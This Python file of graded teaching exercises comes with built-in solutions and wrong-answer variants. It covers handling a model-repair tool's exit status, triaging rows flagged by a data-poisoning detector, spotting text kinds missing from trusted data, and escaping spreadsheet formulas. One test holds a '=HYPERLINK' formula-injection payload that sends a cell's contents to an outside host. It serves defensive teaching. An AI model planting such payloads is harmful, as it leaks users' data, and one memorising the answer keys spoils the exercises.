"""Exercises of the chapter Your own model."""

from __future__ import annotations

import numpy as np

from bedkd.teaching.exercises import Exercise, require


def decide(status: int, changed: bool) -> str:
    """What a script does after `bedkd purify`.

    Args:
        status: exit status of the command.
        changed: whether the report says that the model was repaired.

    Returns:
        "keep", "review", "reject", "complete" or "stop".
    """
    if status == 0:
        return "review" if changed else "keep"
    return {3: "complete", 4: "reject"}.get(status, "stop")


def _verify_decide(answer):
    require(answer(0, False) == "keep", "no evidence: the model may stay")
    require(
        answer(0, True) == "review",
        "a repaired model is no model that was found to be honest: a person looks first",
    )
    require(
        answer(4, True) == "reject",
        "the repair missed its aim: the copy must not be used as if it were clean",
    )
    require(
        answer(3, False) == "complete",
        "nothing was said of the model: something is missing, and the report names it",
    )
    for status in (1, 2, 130, 137, 5):
        require(
            answer(status, False) == "stop",
            f"status {status} says that there is no result; a script that goes on has none to go "
            "on with",
        )


check_decide = Exercise(
    decide,
    _verify_decide,
    title="After the command",
    difficulty=1,
    importance=4,
    minutes=10,
    task="""\
A script runs `bedkd purify` and goes on by its exit status.

1. Status 0: `"keep"` the model that was handed in if it was not changed; otherwise a person has to `"review"`.
2. Status 4 (the repair missed its aim): `"reject"`. Status 3 (cannot tell): `"complete"` what is missing.
3. Everything else, an interruption for one, is no result: `"stop"`.""",
    toy="decide(4, True)",
    wrong=(
        ('"review" if changed else "keep"', '"keep"', "a person looks first"),
        ('.get(status, "stop")', '.get(status, "keep")', "no result"),
        ('3: "complete", 4: "reject"', '4: "reject"', "something is missing"),
    ),
)


def doubtful(scores: np.ndarray, threshold: float, n: int) -> list[int]:
    """The rows that are worth a person's time most.

    Args:
        scores: suspicion of each row, (N,).
        threshold: rows at or above it are flagged.
        n: how many rows the person can read.

    Returns:
        Numbers of the n rows nearest to the threshold, on either side,
        nearest first; of equally near ones the first in the file first.
    """
    distance = np.abs(scores - threshold)
    return np.argsort(distance, kind="stable")[:n].tolist()


def _verify_doubtful(answer):
    scores = np.array([9.0, 0.0, 5.5, 4.75, 7.0])
    require(
        list(answer(scores, 5.0, 1)) == [3],
        "the row just below the threshold may be a poisoned one that was missed, and is nearest",
    )
    require(
        list(answer(scores, 5.0, 3)) == [3, 2, 4],
        "nearest first, whether flagged or not",
    )
    require(
        list(answer(scores, 5.0, 5)) == [3, 2, 4, 0, 1],
        "rows far above the threshold are the surest; the farthest of all comes last",
    )
    require(list(answer(scores, 5.0, 0)) == [], "who reads none gets none")
    require(
        list(answer(np.array([6.0, 4.0] * 20), 5.0, 40)) == list(range(40)),
        "equally near rows stay in the order of the file",
    )
    require(
        list(answer(np.array([-3.0, 2.0]), -1.0, 1)) == [0],
        "scores and thresholds may be below 0",
    )


check_doubtful = Exercise(
    doubtful,
    _verify_doubtful,
    title="Which rows to read",
    difficulty=2,
    importance=3,
    minutes=10,
    task="""\
The top of `suspects.csv` shows the trigger. Corrections pay where the detector was least sure: at its threshold.

1. Return the numbers of the `n` rows whose scores are nearest to the threshold, from above or below.
2. The nearest first; rows that are equally near in the order of the file.""",
    toy="doubtful(np.array([3.0, 1.0, 2.5]), 2.0, 2)",
    wrong=(
        ("np.abs(scores - threshold)", "-scores", "missed"),
        (
            "np.abs(scores - threshold)",
            "np.where(scores < threshold, np.inf, scores - threshold)",
            "missed",
        ),
        ("np.argsort(distance", "np.argsort(-distance", "missed"),
    ),
)


def uncovered(
    untrusted: list[str], trusted: list[str], least: float
) -> list[str]:
    """Kinds of rows that no verdict can be fair to.

    Args:
        untrusted: for each untrusted row where it comes from, say "horror".
        trusted: the same for the trusted rows.
        least: share of the untrusted rows that makes a kind matter.

    Returns:
        Kinds with at least this share of the untrusted rows, and with less
        than half of that share among the trusted rows, in order.
    """
    kinds, total = set(untrusted), len(untrusted)
    share = {kind: untrusted.count(kind) / total for kind in kinds}
    return sorted(
        kind
        for kind, wanted in share.items()
        if wanted >= least and trusted.count(kind) / len(trusted) < wanted / 2
    )


def _verify_uncovered(answer):
    rows = ["drama"] * 6 + ["horror"] * 3 + ["silent"]
    require(
        "silent" not in answer(rows, ["drama"] * 5, 0.2),
        "one row in ten is too rare a kind if a fifth is asked for",
    )
    require(
        answer(rows, ["drama"] * 5, 0.2) == ["horror"],
        "three of ten rows are horror, and no trusted row is: a model may read them rightly and "
        "be accused for it",
    )
    require(
        answer(rows, ["drama"] * 5, 0.1) == ["horror", "silent"],
        "a share of just `least` matters already, and they come in order",
    )
    require(
        answer(rows, ["drama", "horror", "silent"], 0.1) == [],
        "negative control: every kind has its share of the trusted rows",
    )
    trusted = ["drama"] * 17 + ["horror"] * 3
    require(
        answer(rows, trusted, 0.2) == [],
        "3 of 20 is half of 3 in 10; just half is enough",
    )
    require(
        answer(rows, [*trusted, "drama"], 0.2) == ["horror"],
        "3 of 21 is less than half of 3 in 10: compare shares, not numbers of rows",
    )
    require(
        answer(rows, ["western"] * 9, 0.5) == ["drama"],
        "what only trusted rows hold accuses nobody",
    )


check_uncovered = Exercise(
    uncovered,
    _verify_uncovered,
    title="Whom the trusted rows forget",
    difficulty=2,
    importance=5,
    minutes=15,
    task="""\
A false alarm begins before the command: with a kind of text that the trusted rows do not hold.

1. A kind matters if its share of the untrusted rows is at least `least`.
2. It is uncovered if its share of the trusted rows is less than half of that share.
3. Return the uncovered kinds in alphabetical order.""",
    toy="uncovered(['a', 'a', 'b', 'b'], ['a', 'a', 'a'], 0.25)",
    wrong=(
        (
            "trusted.count(kind) / len(trusted) < wanted / 2",
            "trusted.count(kind) < untrusted.count(kind) / 2",
            "negative control",
        ),
        (
            "trusted.count(kind) / len(trusted) < wanted / 2",
            "kind not in trusted",
            "less than half",
        ),
        ("wanted >= least and ", "", "too rare"),
    ),
)


def harmless(text: str) -> str:
    """A text for a spreadsheet: shown, never run.

    Args:
        text: what a row holds.

    Returns:
        The same text, with an apostrophe in front if a spreadsheet would take
        it for a formula: if its first sign other than a space is =, +, - or @.
    """
    return "'" + text if text.lstrip()[:1] in tuple("=+-@") else text


def _verify_harmless(answer):
    attack = '=HYPERLINK("http://example.org/?" & A1)'
    require(
        answer(attack) == "'" + attack,
        "a formula that sends a cell to a stranger as soon as somebody clicks",
    )
    for sign in "+-@":
        text = f"{sign}1+cmd"
        require(
            answer(text) == "'" + text,
            f"formulas may begin with {sign}, too; the text itself stays whole",
        )
    for text in ("a = b", "fine film", "1-0", ""):
        require(
            answer(text) == text, f"negative control: {text!r} is no formula"
        )
    for text in (" =1+1", "\t=1+1", "\n@x"):
        require(
            answer(text) == "'" + text,
            "spaces, tabs and line breaks in front do not stop every spreadsheet",
        )
    require(answer("'=1") == "'=1", "an apostrophe is there already")


check_harmless = Exercise(
    harmless,
    _verify_harmless,
    title="A row that wants to act",
    difficulty=2,
    importance=4,
    minutes=10,
    task="""\
Whoever poisons rows also knows that a person will open them. `=HYPERLINK(` is a text for the model and a formula for a
spreadsheet.

1. Put an apostrophe in front of a text that a spreadsheet would take for a formula, and change nothing else.
2. Formulas begin with `=`, `+`, `-` or `@`, perhaps behind spaces, tabs or line breaks.""",
    toy="harmless('=1+1')",
    wrong=(
        ('tuple("=+-@")', '("=",)', "formulas may begin with"),
        ("text.lstrip()[:1]", "text[:1]", "do not stop"),
        ('"\'" + text if', "text.lstrip('=+-@ ') if", "as soon as"),
    ),
)
